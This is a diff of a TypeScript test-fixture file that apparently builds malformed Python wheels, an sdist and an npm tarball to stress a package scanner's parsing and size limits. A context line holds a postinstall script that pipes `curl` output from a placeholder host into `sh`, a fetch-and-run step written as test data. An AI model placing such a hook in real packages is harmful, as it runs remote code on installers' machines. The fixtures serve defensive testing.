@@ -179,3 +179,38 @@ export function brokenManifestTarball(): Buffer {
     '{\n  "name": "broken",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -s http://203.0.113.7/x.sh | sh",\n  },\n}\n';
   return gzipSync(buildTar([{ name: 'package/package.json', data: manifest }]));
 }
+
+/** A wheel whose METADATA holds `requires` Requires-Dist lines (distinct names), plus a payload module. */
+export function manyRequiresWheel(requires: number): Buffer {
+  const lines = Array.from({ length: requires }, (_, i) => `Requires-Dist: dep-${i} (>=1.0)`);
+  const metadata = `Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n${lines.join('\n')}\n\n`;
+  return buildZip([
+    { name: 'many/__init__.py', data: 'VALUE = 1\n' },
+    { name: 'hostile-1.0.dist-info/METADATA', data: metadata },
+    { name: 'hostile-1.0.dist-info/WHEEL', data: WHEEL },
+  ]);
+}
+
+/** A wheel whose METADATA is over 16 MiB (a long description), its real fields in front. */
+export function oversizedMetadataWheel(size = 17 * 1024 * 1024): Buffer {
+  const head = 'Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\nRequires-Dist: evil-helper\n\n';
+  const body = compressibleText(size, (seed) => `line ${seed.toString(36)} of a long description\n`);
+  return buildZip([
+    { name: 'big/__init__.py', data: 'VALUE = 1\n' },
+    { name: 'hostile-1.0.dist-info/METADATA', data: head + body },
+    { name: 'hostile-1.0.dist-info/WHEEL', data: WHEEL },
+  ]);
+}
+
+/** An sdist whose pyproject.toml does not parse (an unclosed array), with PKG-INFO beside it. */
+export function brokenPyprojectSdist(): Buffer {
+  const pyproject =
+    '[project]\nname = "hostile"\nversion = "1.0"\ndependencies = ["requests",\n\n[build-system]\nrequires = [\n';
+  return gzipSync(
+    buildTar([
+      { name: 'hostile-1.0/PKG-INFO', data: METADATA },
+      { name: 'hostile-1.0/pyproject.toml', data: pyproject },
+      { name: 'hostile-1.0/hostile/__init__.py', data: 'VALUE = 1\n' },
+    ]),
+  );
+}
